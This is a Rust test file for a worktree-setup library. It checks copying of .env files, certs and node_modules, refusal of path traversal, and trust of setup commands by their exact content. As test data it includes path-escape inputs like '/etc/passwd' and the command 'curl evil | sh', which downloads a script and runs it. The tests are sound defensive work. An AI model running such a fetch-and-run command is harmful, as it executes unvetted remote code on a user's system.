//! Files and folders that a worktree gets, and whose commands are trusted.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use environments::{EnvironmentError, Trust, clone, copy};

fn write(path: PathBuf, text: &str) {
    fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
    fs::write(path, text).expect("a file");
}

fn paths(names: &[&str]) -> Vec<PathBuf> {
    names.iter().map(PathBuf::from).collect()
}

#[test]
fn named_files_are_copied_without_overwriting() {
    let temp = tempfile::tempdir().expect("a folder");
    let (main, tree) = (temp.path().join("main"), temp.path().join("tree"));
    for name in [".env", ".env.local", "app/.env", "keep.env", "notes.txt", "certs/a.pem"] {
        write(main.join(name), name);
    }
    fs::set_permissions(main.join(".env"), fs::Permissions::from_mode(0o600)).expect("ours");
    write(tree.join("keep.env"), "mine");
    let ignored = paths(&[".env", ".env.local", "app/.env", "keep.env", "notes.txt", "certs", "../out", "/etc/passwd"]);
    let patterns = [".env*", "*.env", "!.env.local", "/certs"].map(str::to_owned);
    let copied = copy(&main, &tree, &ignored, &patterns).expect("copied");
    assert_eq!(copied.names, [".env", "app/.env", "certs/"]);
    assert_eq!(fs::read_to_string(tree.join("keep.env")).expect("text"), "mine");
    assert_eq!(fs::metadata(tree.join(".env")).expect("there").permissions().mode() & 0o777, 0o600);
    assert_eq!(fs::read_to_string(tree.join("certs/a.pem")).expect("text"), "certs/a.pem");
    assert!(!tree.join("notes.txt").exists() && !tree.join(".env.local").exists());
    let again = copy(&main, &tree, &ignored, &patterns).expect("copied");
    assert_eq!(again.bytes, 0, "what is there stays");
}

#[test]
fn a_copied_folder_keeps_links_as_links() {
    let temp = tempfile::tempdir().expect("a folder");
    let (main, tree) = (temp.path().join("main"), temp.path().join("tree"));
    write(main.join("node_modules/a/index.js"), "a");
    write(main.join("node_modules/.bin/tool"), "#!/bin/sh");
    fs::set_permissions(main.join("node_modules/.bin/tool"), fs::Permissions::from_mode(0o755)).expect("ours");
    symlink("../a/index.js", main.join("node_modules/.bin/a")).expect("a link");
    fs::create_dir(&tree).expect("a folder");
    let copied = clone(&main, &tree, Path::new("node_modules")).expect("cloned");
    assert_eq!((copied.names, copied.bytes), (vec!["node_modules/".to_owned()], 10));
    assert_eq!(fs::read_link(tree.join("node_modules/.bin/a")).expect("a link"), Path::new("../a/index.js"));
    assert_eq!(fs::metadata(tree.join("node_modules/.bin/tool")).expect("there").permissions().mode() & 0o111, 0o111);
    fs::write(tree.join("node_modules/a/index.js"), "changed").expect("writable");
    assert_eq!(fs::read_to_string(main.join("node_modules/a/index.js")).expect("text"), "a", "nothing is shared");
    assert_eq!(clone(&main, &tree, Path::new("missing")).expect("no mistake").names, [""; 0]);
}

#[test]
fn a_copy_never_leaves_the_worktree() {
    let temp = tempfile::tempdir().expect("a folder");
    let (main, tree, away) = (temp.path().join("main"), temp.path().join("tree"), temp.path().join("away"));
    write(main.join("app/.env"), "secret");
    fs::create_dir(&tree).expect("a folder");
    fs::create_dir(&away).expect("a folder");
    symlink(&away, tree.join("app")).expect("a link");
    let refused = copy(&main, &tree, &paths(&["app/.env"]), &["app/.env".to_owned()]);
    assert!(matches!(refused, Err(EnvironmentError::Outside { .. })), "{refused:?}");
    for path in ["../x", "/etc", "a/../../x"] {
        assert!(matches!(clone(&main, &tree, Path::new(path)), Err(EnvironmentError::Outside { .. })), "{path}");
    }
    assert_eq!(fs::read_dir(&away).expect("readable").count(), 0);
}

#[test]
fn commands_are_trusted_by_their_content() {
    let temp = tempfile::tempdir().expect("a folder");
    let commands = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let mut trust = Trust::open(temp.path());
    assert!(trust.has("/r", &[]) && !trust.has("/r", &commands(&["npm ci"])));
    trust.grant("/r", &commands(&["npm ci"])).expect("writable");
    let again = Trust::open(temp.path());
    assert!(again.has("/r", &commands(&["npm ci"])));
    assert!(!again.has("/other", &commands(&["npm ci"])) && !again.has("/r", &commands(&["npm ci", "curl evil | sh"])));
    assert!(!again.has("/r", &commands(&["npm", " ci"])), "one command is not two");
    let mode = fs::metadata(temp.path().join("trust.json")).expect("there").permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}
